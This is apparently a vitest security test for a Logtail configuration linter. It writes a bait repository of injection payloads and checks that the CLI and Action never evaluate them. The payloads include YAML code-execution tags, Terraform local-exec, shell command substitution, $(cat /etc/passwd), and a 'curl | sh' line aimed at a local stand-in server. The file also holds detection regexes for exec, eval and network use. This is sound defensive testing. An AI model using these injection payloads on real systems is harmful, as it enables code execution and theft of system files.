/**
 * Nothing in the pipeline evaluates repository content. A repository whose every file would, if
 * anything ran it, create a marker file, read /etc/passwd, expand an environment variable or call
 * a server: YAML code tags (`!!js/function`, `!!js/eval`, `!!python/object/apply`), ROS tags,
 * Terraform functions, `external` data, `local-exec`, HTTP module sources, shell `$(…)` and
 * backticks, cloud-init `runcmd`, a Dockerfile RUN, template placeholders (`{{ }}`, `${ }`, `%{ }`,
 * `<%= %>`) and a `$schema` URL. Linted by the CLI in every format, with `--fix`, and by the Action:
 * no marker appears, the server on 127.0.0.1 gets no request, no output holds a line of
 * /etc/passwd or the value of $HOME, and the values come back as the text they are.
 */
import { existsSync, mkdtempSync, readFileSync, readdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeTree, type Tree } from '../helpers.js';
import { node24Missing, runAction } from '../delivery/runner.js';
import { runBin } from './run-bin.js';

function evaluationBait(marker: (name: string) => string, url: string): Tree {
  return {
    '.logtail-lint.json': `{ "$schema": "${url}/schema.json" }\n`,
    'ros/template.yaml': `ROSTemplateFormatVersion: '2015-09-01'
Resources:
  Group:
    Type: ALIYUN::SLS::MachineGroup
    Properties:
      GroupName: !!js/function "function () { require('fs').writeFileSync('${marker('yaml-fn')}', '') }"
      ProjectName: !!js/eval "require('fs').writeFileSync('${marker('yaml-eval')}', '')"
      MachineIdentifyType: !!python/object/apply:os.system ["touch ${marker('yaml-py')}"]
      MachineList:
        - !Sub "\${ALIYUN::Region}-$(touch ${marker('ros-sub')})"
        - !!js/regexp /x/
        - !include /etc/passwd
        - !Ref "${url}/ref"
`,
    'k8s/ds.yaml': `apiVersion: apps/v1
kind: DaemonSet
metadata: { name: logtail-ds }
spec:
  template:
    spec:
      containers:
        - name: logtail
          image: logtail
          env:
            - name: ALIYUN_LOGTAIL_CONFIG
              value: !!js/function "function () { require('fs').writeFileSync('${marker('k8s-fn')}', '') }"
            - name: ALIYUN_LOGTAIL_USER_DEFINED_ID
              value: "{{ .Values.id }}$(touch ${marker('k8s-sh')})"
`,
    'tf/main.tf': `provider "alicloud" {
  region = "\${file("/etc/passwd")}"
}
data "external" "x" {
  program = ["sh", "-c", "touch ${marker('tf-external')}"]
}
data "http" "y" {
  url = "${url}/data"
}
module "m" {
  source = "${url}/module.zip"
}
resource "alicloud_log_machine_group" "g" {
  project       = "p-\${templatefile("/etc/passwd", {})}"
  name          = "grp"
  identify_type = "userdefined"
  identify_list = [file("/etc/passwd"), "\${var.id}", "%{ for x in [1] }x%{ endfor }", "\${env("HOME")}"]
  provisioner "local-exec" {
    command = "touch ${marker('tf-exec')}"
  }
}
`,
    'scripts/install.sh': `#!/bin/bash
./logtail.sh install "$(touch ${marker('sh')}; echo cn-hangzhou)"
./logtail.sh install \`touch ${marker('backtick')}\`
echo "$(cat /etc/passwd)" > /etc/ilogtail/user_defined_id
echo \${HOME} >> /etc/ilogtail/user_defined_id
curl ${url}/install | sh
`,
    'hosts/h/usr/local/ilogtail/ilogtail_config.json': `{
  "config_server_address": "http://logtail.cn-hangzhou-intranet.log.aliyuncs.com",
  "data_server_list": [{ "cluster": "$(touch ${marker('json')})\${HOME}{{ .Values.region }}<%= File.read('/etc/passwd') %>", "endpoint": "${url.replace('http://', '')}" }]
}
`,
    'hosts/h/etc/ilogtail/user_defined_id': `\`touch ${marker('udid')}\`\n\${HOME}\n{{ .Values.id }}\n$(cat /etc/passwd)\n`,
    'cloud-init/user-data.yaml': `#cloud-config
runcmd:
  - [ sh, -c, "touch ${marker('cloud-init')}" ]
  - ./logtail.sh install "$(touch ${marker('cloud-init-2')})"
`,
    'docker/Dockerfile': `FROM alpine\nRUN touch ${marker('docker')} && ./logtail.sh install $(cat /etc/passwd)\n`,
  };
}

describe('no repository content is evaluated', () => {
  let server: Server;
  let url: string;
  const requests: string[] = [];
  let cwd: string;
  let bait: Record<string, string>;
  const home = mkdtempSync(path.join(tmpdir(), 'logtail-lint-HOME-MARKER-'));
  const markers = mkdtempSync(path.join(tmpdir(), 'logtail-lint-markers-'));
  const passwdLine = readFileSync('/etc/passwd', 'utf8').split('\n')[0];

  beforeAll(async () => {
    server = createServer((req, res) => {
      requests.push(`${req.method} ${req.url}`);
      res.end('{}');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    bait = evaluationBait((name) => path.join(markers, `PWNED-${name}`), url) as Record<string, string>;
    cwd = writeTree(bait);
  });
  afterAll(() => server.close());

  /** What must never happen, whatever ran. */
  function expectNothingHappened(outputs: string[]): void {
    expect(readdirSync(markers)).toEqual([]);
    expect(readdirSync(cwd).filter((n) => n.startsWith('PWNED'))).toEqual([]);
    expect(requests).toEqual([]);
    for (const out of outputs) {
      expect(out).not.toContain(passwdLine);
      expect(out).not.toContain(home);
    }
  }

  it('the CLI, in every format and with --fix', () => {
    const env = { HOME: home };
    const outputs: string[] = [];
    for (const format of ['stylish', 'json', 'sarif', 'github', 'junit']) {
      const r = runBin(['-f', format, '.'], cwd, env);
      expect(r.status, r.stderr).toBe(1);
      outputs.push(r.stdout, r.stderr);
    }
    const fix = runBin(['--fix', '-f', 'json', '.'], cwd, env);
    outputs.push(fix.stdout, fix.stderr);
    expectNothingHappened(outputs);

    // The values are the text they are: a YAML code tag's body is the group's name, as a string.
    const messages = (JSON.parse(outputs[2]) as { diagnostics: Array<{ message: string }> }).diagnostics.map((d) => d.message);
    expect(messages.some((m) => m.includes(`Machine group name "function () { require('fs').writeFileSync(`))).toBe(true);
    // A backtick command is an identifier with a space in it, quoted as written.
    const udid = `Identifier "\`touch ${path.join(markers, 'PWNED-udid')}\`" on line 1 contains a space.`;
    expect(
      messages.some((m) => m.startsWith(udid)),
      udid,
    ).toBe(true);
    // --fix wrote nothing into them: every placeholder and command is still there, byte for byte.
    for (const [file, text] of Object.entries(bait)) expect(readFileSync(path.join(cwd, file), 'utf8'), file).toBe(text);
  });

  it.skipIf(node24Missing() !== undefined && !process.env.CI)('the Action (Node 24)', () => {
    const r = runAction(cwd, { env: { HOME: home }, inputs: { 'sarif-file': 'out.sarif' } });
    expect(r.status, r.stderr).toBe(1);
    expectNothingHappened([r.stdout, r.stderr, r.summary, JSON.stringify(r.outputs), readFileSync(path.join(cwd, 'out.sarif'), 'utf8')]);
    expect(existsSync(path.join(cwd, 'out.sarif'))).toBe(true);
  });
});

describe('the sources have no way to run code or reach the network', () => {
  const SRC = path.resolve(import.meta.dirname, '../../src');
  const files = (readdirSync(SRC, { recursive: true, encoding: 'utf8' }) as string[]).filter((f) => f.endsWith('.ts'));

  it('only src/action/changed-files.ts starts a process (git, with an argument array); nothing evaluates strings; only the doctor\'s probes open a socket', () => {
    const found: string[] = [];
    for (const f of files) {
      const text = readFileSync(path.join(SRC, f), 'utf8');
      for (const [what, re] of [
        ['child_process', /['"]node:child_process['"]/],
        ['a shell', /\bshell\s*:\s*true|\bexecSync\b|(?<![.\w])exec\(/],
        ['vm', /['"]node:vm['"]/],
        ['eval', /\beval\s*\(|new\s+Function\s*\(/],
        ['the network', /['"]node:(?:https?|http2|tls|dgram|dns)['"]|\bfetch\s*\(|['"]undici['"]/],
        ['a computed import', /\bimport\(\s*[^'"\s)]/],
      ] as const) {
        if (re.test(text)) found.push(`${f}: ${what}`);
      }
      // node:net's isIP family are pure functions; anything else from it is a socket.
      for (const m of text.matchAll(/import\s+([^;]*?)\s+from\s+['"]node:net['"]/g)) {
        const names = /^\{([^}]*)\}$/
          .exec(m[1].trim())?.[1]
          .split(',')
          .map((n) => n.trim())
          .filter(Boolean);
        if (!names || names.some((n) => !['isIP', 'isIPv4', 'isIPv6'].includes(n))) found.push(`${f}: the network`);
      }
    }
    // The doctor probes the SLS endpoints and ECS metadata of a live host (docs/doctor.md); linting never does.
    expect(found).toEqual([
      'action/changed-files.ts: child_process',
      'doctor/collect/network.ts: the network',
      'doctor/collect/network.ts: the network',
      'doctor/net/request.ts: the network',
    ]);
  });

  it('the linter loads none of the doctor\'s modules: the CLI imports them only for `logtail-lint doctor`', () => {
    // Static imports only: src/cli/main.ts imports the doctor with `await import()` in its doctor branch.
    const importsOf = (f: string) =>
      [...readFileSync(path.join(SRC, f), 'utf8').matchAll(/\bfrom\s*['"](\.{1,2}\/[^'"]+)['"]/g)].map((m) =>
        path.relative(SRC, path.resolve(path.dirname(path.join(SRC, f)), m[1])).replace(/\.js$/, '.ts'),
      );
    const reached = new Set<string>();
    const visit = (f: string) => {
      if (reached.has(f) || !files.includes(f)) return;
      reached.add(f);
      for (const i of importsOf(f)) visit(i);
    };
    visit('index.ts');
    visit('action/main.ts');
    expect([...reached].filter((f) => f.startsWith('doctor/'))).toEqual([]);
  });
});
